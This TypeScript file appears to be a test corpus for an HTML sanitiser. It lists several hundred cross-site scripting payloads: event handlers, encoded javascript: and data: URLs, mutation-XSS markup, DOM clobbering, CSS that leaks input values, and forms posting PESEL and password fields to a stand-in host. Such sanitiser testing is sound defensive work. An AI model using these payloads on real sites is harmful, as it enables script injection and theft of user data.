/** The script to run; the page records its calls. */
const RUN = 'hostile()';
const OUT = 'https://evil.example';
const IMG = `<img src=nothing onerror=${RUN}>`;

const words = (text: string) => text.trim().split(/\s+/);

const EVENTS = words(`
  abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
  beforematch beforepaste beforetoggle blur cancel canplay canplaythrough change click close contextmenu copy
  cuechange cut dblclick drag dragend dragenter dragover drop durationchange emptied ended error focus focusin
  formdata gotpointercapture input invalid keydown load loadeddata loadstart mousedown mouseenter mouseover
  pageshow paste play pointerdown pointerenter pointerrawupdate ratechange reset resize scroll scrollend search
  select selectstart slotchange submit suspend toggle touchstart transitionend transitionrun wheel`);
const ELEMENTS = words('p a img b i table td ul li h1 h6 blockquote th strong em u tr tbody ol hr');

/** Every event handler, on elements that are allowed. */
const handlers = EVENTS.map((event, index) => {
  const element = ELEMENTS[index % ELEMENTS.length] ?? 'p';
  return `<${element} on${event}="${RUN}" tabindex="0" autofocus>x</${element}>`;
});

/** Handlers in each way of writing that a parser understands, and those that run by themselves. */
const written = [
  IMG,
  `<img/src="nothing"/onerror=${RUN}>`,
  `<IMG SRC=nothing ONERROR=${RUN}>`,
  `<img\nsrc=nothing\nonerror\n=\n"${RUN}">`,
  `<img src=nothing onerror=&#104;&#x6fstile&lpar;&rpar;>`,
  `<img src="nothing" alt="\`>${IMG}">`,
  `<img """><script>${RUN}</script>">`,
  `<img src=nothing onerror\u0000=${RUN}>`,
  `<p title='"onclick=${RUN}'>x</p>`,
  `<<p ==onclick=${RUN} "onclick=${RUN}">x</p>`,
  `<p onclick=${RUN}//><p>x`,
  `<body onload=${RUN} onpageshow=${RUN} onhashchange=${RUN}>`,
  `<video><source onerror=${RUN} src=nothing></video>`,
  `<audio src=nothing onerror=${RUN} autoplay></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<dialog open oncancel=${RUN} onclose=${RUN}>x</dialog>`,
  `<xss-x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x</xss-x>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=nothing onerror=${RUN}>`,
  `<object data=nothing onerror=${RUN}></object>`,
  `<iframe onload=${RUN}></iframe>`,
  `<img src=nothing onerror="${RUN}//`,
  `<button popovertarget=a onclick=${RUN}>x</button><p id=a popover onbeforetoggle=${RUN}>y</p>`,
];

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x\n>${RUN}</SCRIPT/x\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=importmap>{"imports":{"a":"data:text/javascript,${RUN}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${OUT}/"]}]}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script nonce=abc integrity="" src=${OUT}/b.js></script>`,
  `<script>0</script><!--><script>${RUN}</script>`,
  `<p>x<script>${RUN}`,
  `</p></div></main></body><script>${RUN}</script>`,
  `<?xml version="1.0"?><![CDATA[<script>${RUN}</script>]]>`,
  `<!DOCTYPE html><html><head><script>${RUN}</script></head><body>x</body></html>`,
];

/** URLs only, as the whole text of a consent may be one: scripts, or documents with scripts, in each spelling. */
export const BARE_ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `jav\u0000ascript:${RUN}`,
  `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${RUN}`,
  `j&#x61vascript&colon;${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `javascript:/*--></title></style></textarea>*/${RUN}`,
  `javascript:%68ostile()`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=`,
  `data:,${RUN}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${RUN}</script></html>`,
  `blob:${OUT}/0-0`,
  `file:///etc/hostname`,
  `intent://evil.example#Intent;scheme=https;end`,
  `ws://evil.example/`,
];

/** Elements and attributes that take a URL, besides links. */
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<img src="${address}" srcset="${address} 2x" alt="x">`,
  (address) => `<map name="m"><area href="${address}" shape="default"></map>`,
  (address) => `<link rel="stylesheet" href="${address}">`,
];

const addresses = [
  ...CARRIERS.map((carry) => carry(`javascript:void ${RUN}`)),
  ...BARE_ADDRESSES.map((address) => `<p><a href="${address}" target="_self">x</a></p>`),
  ...BARE_ADDRESSES.map((address, index) => CARRIERS[index % CARRIERS.length]?.(address) ?? ''),
];

/** What fetches from another origin: an image in each spelling of its URL, and each element and attribute. */
const requests = [
  ...words(String.raw`//evil.example/1 https:evil.example/2 \\evil.example\3 /\evil.example/4
    http://localhost@evil.example/5 ${OUT}/6 HTTPS://EVIL.EXAMPLE/60 //evil.example:443/61 https:///evil.example/62`).map(
    (url) => `<img src="${url}" alt=x>`,
  ),
  `<img src="https://\tevil.example/7">`,
  `<img src=nothing srcset="${OUT}/8 1x" sizes=100vw longdesc=${OUT}/10 lowsrc=${OUT}/11>`,
  `<img src=nothing srcset="${OUT}/9 1x" crossorigin referrerpolicy=unsafe-url>`,
  `<image src=${OUT}/12>`,
  `<picture><source srcset=${OUT}/13><img src=nothing></picture>`,
  `<video src=${OUT}/54 autoplay muted></video><video><source src=${OUT}/55></video>`,
  `<video poster=${OUT}/14 src=${OUT}/15 autoplay muted><track default src=${OUT}/16.vtt></video>`,
  `<audio src=${OUT}/17 autoplay></audio>`,
  `<embed src=${OUT}/18><object data=${OUT}/19><param name=movie value=${OUT}/20></object>`,
  `<iframe src=${OUT}/21></iframe>`,
  `<iframe srcdoc="<img src=${OUT}/22>"></iframe>`,
  `<style>@import url(${OUT}/56);</style><style>p{list-style-image:url(${OUT}/57);cursor:url(${OUT}/58),auto}</style>`,
  `<iframe srcdoc="&lt;script&gt;parent.hostile()&lt;/script&gt;" sandbox=allow-scripts></iframe>`,
  `<frameset><frame src=${OUT}/23></frameset><portal src=${OUT}/24></portal>`,
  ...words('stylesheet prefetch preconnect dns-prefetch modulepreload icon manifest prerender').map(
    (rel) => `<link rel=${rel} href=${OUT}/${rel}>`,
  ),
  `<link rel=preload as=image href=${OUT}/25>`,
  `<input type=image src=${OUT}/26>`,
  `<table background=${OUT}/27><tr><td background=${OUT}/28>x</td></tr></table>`,
  `<body background=${OUT}/29>`,
  `<meta http-equiv=set-cookie content="a=b">`,
  `<meta http-equiv=content-security-policy content="default-src *">`,
  `<meta name=referrer content=unsafe-url><base target=_top href=//evil.example/30/>`,
  `<svg><image href=${OUT}/31 /><use href=${OUT}/32#a /></svg>`,
  `<svg><filter><feImage xlink:href=${OUT}/33 /></filter></svg>`,
  `<svg><rect fill="url(${OUT}/34#a)" width=9 height=9 /></svg>`,
  `<a href=${OUT}/35 ping=${OUT}/36 download=a.exe target=root rel=opener>x</a>`,
  `<q cite=${OUT}/37>x</q><blockquote cite=${OUT}/38>x</blockquote>`,
];

/** What styles the page, or fetches by a style. */
const styles = [
  `<style>@import url(${OUT}/40);@import '${OUT}/41';</style>`,
  `<style>body{background:url(${OUT}/42)!important}p::before{content:url(${OUT}/43)}</style>`,
  `<style>@font-face{font-family:a;src:url(${OUT}/44)}*{font-family:a}</style>`,
  `<style>input[value^=a]{background:url(${OUT}/45)}*{display:none!important}</style>`,
  `<style><!--</style>${IMG}--></style>`,
  ...[
    `background:url(${OUT}/46)`,
    `background-image:\\75rl(${OUT}/47)`,
    `background:image-set('${OUT}/48' 1x)`,
    `position:fixed;inset:0;z-index:2147483647;background:#fff`,
    `width:expression(hostile());behavior:url(${OUT}/49)`,
    `mask:url(${OUT}/50#a);clip-path:url(${OUT}/51#a);border-image:url(${OUT}/52) 1`,
    `content:'</style><script>hostile()</script>'`,
  ].map((style) => `<p style="${style}">x</p>`),
  `<div class="MuiBackdrop-root Toasts Outcome" style=opacity:1>x</div>`,
  `<font face="a" color="url(${OUT}/53)">x</font>`,
];

/** Mutation XSS: markup that parses to another tree once it was sanitised. */
const mutations = [
  ...words('noscript noembed noframes xmp iframe textarea title').map(
    (element) => `<${element}><p title="</${element}>${IMG}"></${element}>`,
  ),
  `<noscript><style></noscript>${IMG}`,
  `<plaintext>${IMG}`,
  `<math><mtext><table><mglyph><style><!--</style>${IMG}--></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  `<math><mtext><p><mglyph><svg><mtext><style><p title="</style>${IMG}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<svg></p><style><p title="</style>${IMG}">`,
  ...words('p desc title').map(
    (element) => `<svg><${element}><style><p title="</style>${IMG}"></style></${element}></svg>`,
  ),
  `<svg><foreignObject><math><mi><style><p title="</style>${IMG}">`,
  `<svg><![CDATA[</svg>${IMG}]]></svg>`,
  `<svg><style>&lt;/style&gt;${IMG}</style></svg>`,
  `<table><caption><svg><title><table><caption>${IMG}`,
  `<table><tr><p>${IMG}<td>${IMG}</table>`,
  `${'<b>'.repeat(600)}${IMG}`,
  `<select><template><style><p title="</style>${IMG}"></template></select>`,
  `<template shadowrootmode=open>${IMG}<slot></slot></template>`,
  `<!--><p title="-->${IMG}">`,
  `<!-- --!>${IMG} -->`,
  `</x ${IMG}><?x ${IMG}?><!x${IMG}>`,
  `<a><a>${IMG}</a></a>`,
  `<dl><dt><form><dd></form>${IMG}`,
  `${'<div>'.repeat(300)}<svg>${'<b>'.repeat(300)}<style><p title="</style>${IMG}">`,
  `&lt;img src=nothing onerror=${RUN}&gt;`,
];

/** DOM clobbering: names that hide properties of the document, or of the page. */
const clobbering = [
  ...words(`
    root getElementById body head cookie forms location defaultView documentElement createElement querySelector
    attributes parentNode childNodes ownerDocument nodeName removeChild textContent site-config trustedTypes
    localStorage currentScript __proto__ constructor hasOwnProperty toString`).flatMap((name) => [
    `<p id="${name}">x</p><img name="${name}" alt="" src="">`,
    `<form name="${name}"><input name="attributes"><input name="${name}"></form>`,
  ]),
  `<a id=config><a id=config name=apiBase href=${OUT}/>x</a></a>`,
  `<iframe name=parent srcdoc="<a id=location></a>"></iframe>`,
  `<object id=document name=document></object><embed name=window>`,
  `<p id="pole-imie" name="imie">x</p><label for="pole-pesel">x</label>`,
  `<p slot=x part=y is=z contenteditable draggable spellcheck accesskey=a hidden class=sr>x</p>`,
  `<p role=alert aria-live=assertive aria-label=x data-a=b lang=xx dir=rtl>x</p>`,
];

/** Other namespaces, and forms that take what is typed. */
const foreign = [
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" xlink:href=//evil.example/a.js></script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s><set onbegin=${RUN} attributeName=x to=y></svg>`,
  `<svg><animateTransform onbegin=${RUN} attributeName=transform></svg>`,
  `<svg><a><set attributeName=href to="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><foreignObject><body onload=${RUN}>x</body></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math onclick=${RUN} tabindex=1><maction actiontype=toggle onclick=${RUN}>x</maction></math>`,
  `<form action=${OUT}/ method=post><input name=pesel><button>Dalej</button></form>`,
  `<input name=pesel autocomplete=on><input type=password name=haslo>`,
  `<label>x<input type=file></label><select name=a><option>x</option></select>`,
  `<button type=submit form=root formtarget=_top>x</button>`,
];

/** Texts that try to run a script, to reach another origin, or to change the page around them. */
export const CORPUS: readonly string[] = [
  ...handlers,
  ...written,
  ...scripts,
  ...addresses,
  ...requests,
  ...styles,
  ...mutations,
  ...clobbering,
  ...foreign,
];
